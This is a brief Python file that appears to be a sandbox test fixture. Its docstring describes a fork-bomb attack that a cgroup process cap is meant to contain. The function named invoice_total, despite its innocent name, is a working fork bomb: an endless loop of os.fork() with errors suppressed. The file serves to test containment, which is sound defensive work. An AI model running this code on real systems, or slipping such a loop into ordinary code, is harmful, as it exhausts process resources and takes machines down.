"""Attack: a fork bomb — every child forks again, forever. Guarantee: the cgroup's process cap
(and RLIMIT_NPROC) contains it, the learner reads that the process limit was hit, and every
process is gone afterwards."""

import contextlib
import os


def invoice_total(lines: list[int]) -> int:
    while True:
        with contextlib.suppress(OSError):
            os.fork()


def largest_line(lines: list[int]) -> None:
    return None
